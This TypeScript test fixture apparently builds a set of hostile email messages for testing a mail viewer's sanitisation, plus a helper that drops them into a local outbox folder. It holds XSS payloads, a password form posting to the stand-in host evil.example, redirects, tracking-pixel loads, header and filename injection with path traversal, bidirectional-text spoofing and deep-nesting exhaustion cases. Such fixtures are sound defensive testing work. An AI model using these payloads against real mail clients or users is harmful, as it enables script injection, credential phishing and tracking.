/** Mail that tries to run, load, lead away or break out when somebody looks at it. */

import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";

/** One of them. `marks`: texts that must not stand in a page as markup. */
export interface HostileMail {
  readonly name: string;
  readonly raw: Buffer;
}

const part = (type: string, body: string, more = ""): string => `Content-Type: ${type}\r\n${more}\r\n${body}\r\n`;

function mail(header: string, body: string): Buffer {
  return Buffer.from(`From: a@example.com\r\nTo: b@example.net\r\nMIME-Version: 1.0\r\n${header}${body}`, "utf8");
}

function htmlMail(body: string, header = "Subject: hostile\r\n"): Buffer {
  return mail(header, part("text/html; charset=utf-8", body));
}

/** The set. */
export const HOSTILE_MAIL: readonly HostileMail[] = [
  {
    name: "scripts in every place",
    raw: htmlMail(
      `<script>alert(1)</script><SCRIPT SRC=//evil.example/x></SCRIPT><scr\0ipt>alert(2)</script><img src=x onerror=alert(3)>` +
        `<body onload=alert(4)><a href="javascript:alert(5)">x</a><svg/onload=alert(6)><details open ontoggle=alert(7)>`,
    ),
  },
  {
    name: "forms",
    raw: htmlMail(
      `<form action="https://evil.example/"><input name=password autofocus><button formaction=//evil.example>x</button></form>`,
    ),
  },
  {
    name: "meta refresh and base",
    raw: htmlMail(
      `<meta http-equiv="refresh" content="0;url=https://evil.example/"><META\nhttp-equiv=set-cookie content="a=b"><base href="https://evil.example/"><a href="x">x</a>`,
    ),
  },
  {
    name: "remote images, styles, fonts and hints",
    raw: htmlMail(
      `<img src="https://evil.example/pixel.gif"><link rel=stylesheet href=https://evil.example/x.css><link rel="dns-prefetch" href="//evil.example"><link/rel=preconnect href=//evil.example>` +
        `<style>@import "https://evil.example/y.css"; body{background:url(https://evil.example/z)}</style><video poster=https://evil.example/v><audio src=https://evil.example/a autoplay>`,
    ),
  },
  {
    name: "SVG with a script, and one in a frame",
    raw: htmlMail(
      `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><image href="https://evil.example/i"/><use href="data:image/svg+xml,x#y"/></svg>` +
        `<iframe src="data:text/html,<script>alert(2)</script>"></iframe><object data=//evil.example></object><embed src=//evil.example>`,
    ),
  },
  {
    name: "HTML that breaks out of its frame's page",
    raw: htmlMail(
      `</body></html></iframe></main><script>alert(1)</script><!-- --!><script>alert(2)</script><plaintext>`,
    ),
  },
  { name: "giant HTML", raw: htmlMail(`<p>${"<b>".repeat(400_000)}x<script>alert(1)</script>`) },
  {
    name: "strange charsets",
    raw: Buffer.concat([
      mail(
        "Subject: =?utf-7?Q?+ADw-script+AD4-alert(1)+ADw-/script+AD4-?=\r\n",
        "Content-Type: text/html; charset=utf-7\r\n\r\n",
      ),
      Buffer.from("+ADw-script+AD4-alert(1)+ADw-/script+AD4-\r\n"),
      Buffer.from([0x1b, 0x24, 0x42, 0xff, 0xfe, 0x00, 0x3c, 0x00, 0x73, 0x80, 0xc0, 0xbc]),
    ]),
  },
  {
    name: "a charset that nobody knows",
    raw: mail("Subject: x\r\n", part('text/html; charset="><script>alert(1)</script>"', "<b>x</b>")),
  },
  {
    name: "header injection and markup in every header",
    raw: mail(
      `Subject: =?utf-8?Q?x=0D=0ASet-Cookie:_a=3Db=0D=0A=0D=0A<script>alert(1)</script>?=\r\n` +
        `Reply-To: "<script>alert(2)</script>" <c@example.com>\r\nDate: "><script>alert(3)</script>\r\nX-<b>: </pre><script>alert(4)</script>\r\n`,
      part("text/plain", "</pre><script>alert(5)</script>"),
    ),
  },
  {
    name: "names of attachments",
    raw: mail(
      `Subject: x\r\nContent-Type: multipart/mixed; boundary=b\r\n`,
      `\r\n--b\r\n${part(
        'text/html; name="x"',
        "<script>alert(1)</script>",
        'Content-Disposition: attachment; filename="../../evil\\"><script>alert(2)</script>.html"\r\n',
      )}--b\r\n${part(
        "image/svg+xml",
        "<svg onload=alert(3)>",
        "Content-Disposition: attachment; filename*=utf-8''x%0D%0ASet-Cookie:%20a=b.svg\r\n",
      )}--b--\r\n`,
    ),
  },
  {
    name: "an inline SVG picture",
    raw: mail(
      `Subject: x\r\nContent-Type: multipart/related; boundary=b\r\n`,
      `\r\n--b\r\n${part("text/html", '<img src="cid:pic">')}--b\r\n${part(
        "image/svg+xml",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "Content-ID: <pic>\r\n",
      )}--b--\r\n`,
    ),
  },
  {
    name: "text that turns around",
    raw: mail(
      "Subject: \u202eexe.cod\u202c \u2066x\r\n",
      part("text/plain; charset=utf-8", "\u202eabc\u0007\u001b[31m\u009b31m"),
    ),
  },
  {
    name: "nesting without end",
    raw: mail(
      "Subject: x\r\n",
      Array.from(
        { length: 600 },
        (_, depth) => `Content-Type: multipart/mixed; boundary=b${depth}\r\n\r\n--b${depth}\r\n`,
      ).join("") + part("text/html", "<script>alert(1)</script>"),
    ),
  },
  { name: "nothing", raw: Buffer.alloc(0) },
];

/**
 * Puts a mail straight into the outbox of a local mode's data directory and returns its SES id: the edge takes no such
 * mail, and SES would send none.
 */
export async function putIntoOutbox(dataDir: string, index: number, raw: Buffer): Promise<string> {
  const sesId = `010001a2${String(index).padStart(8, "0")}-00000000-0000-4000-8000-000000000000-000000`;
  const folder = join(dataDir, "outbox");
  await mkdir(folder, { recursive: true });
  await writeFile(join(folder, `${sesId}.eml`), raw);
  const request = { time: new Date().toISOString(), source: "a@example.com", recipients: ["b@example.net"], tags: {} };
  await writeFile(join(folder, `${sesId}.json`), JSON.stringify(request));
  return sesId;
}
